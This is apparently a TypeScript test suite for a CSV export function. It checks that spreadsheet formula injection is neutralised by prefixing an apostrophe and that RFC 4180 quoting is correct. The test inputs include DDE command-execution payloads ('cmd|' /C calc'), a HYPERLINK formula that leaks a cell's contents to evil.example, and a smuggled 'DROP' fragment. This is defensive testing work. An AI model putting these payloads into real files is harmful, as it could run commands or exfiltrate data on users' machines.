import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import Papa from "papaparse";
import { type Cell, toCsvRow } from "#surfaces/signalmama/csv-row.ts";

const parsed = (line: string) => Papa.parse<string[]>(line, { delimiter: "," }).data[0];
const cellOf = (cell: Cell) => parsed(toCsvRow(["id", cell]))?.[1];

describe("a text that a spreadsheet would run gets an apostrophe before it", () => {
  test.each([
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "+1 555 0100",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "--1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    " =1+1",
    " \u00a0 =1+1",
    '"=1+1"',
    '" =1+1',
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    "-",
    "=",
    "=1,2",
    '=1+1"; DROP',
  ])("%j", (text) => {
    expect(cellOf(text)).toBe(`'${text}`);
  });
});

describe("everything else stays what it is", () => {
  test.each<[Cell, string]>([
    ["-5", "-5"],
    ["-5.25", "-5.25"],
    [-5.25, "-5.25"],
    [0, "0"],
    [true, "true"],
    [null, ""],
    ["", ""],
    ["1+1=2", "1+1=2"],
    ["a@b.example", "a@b.example"],
    ["C-level", "C-level"],
    ["Müller & Söhne", "Müller & Söhne"],
    ["東京", "東京"],
    ["🦊", "🦊"],
    [" spaces ", " spaces "],
    ["it's", "it's"],
  ])("%j", (cell, read) => {
    expect(cellOf(cell)).toBe(read);
  });
});

test("quotes, commas and line breaks are quoted by RFC 4180, and a line ends with CRLF", () => {
  expect(toCsvRow(["a", 'say "hi", then', "two\nlines", null, 1])).toBe('a,"say ""hi"", then","two\nlines",,1\r\n');
});

test("whatever the texts, a reader gets back as many cells, each as it was or behind one apostrophe", () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: "grapheme", maxLength: 30 }), { minLength: 2, maxLength: 8 }), (texts) => {
      const cells = parsed(toCsvRow(texts)) ?? [];
      expect(cells.length).toBe(texts.length);
      for (const [index, text] of texts.entries()) expect([text, `'${text}`]).toContain(cells[index] ?? "");
      for (const cell of cells) expect(cell).not.toMatch(/^[\s"]*[=+@]/);
    }),
    { numRuns: 500, seed: 7 },
  );
});
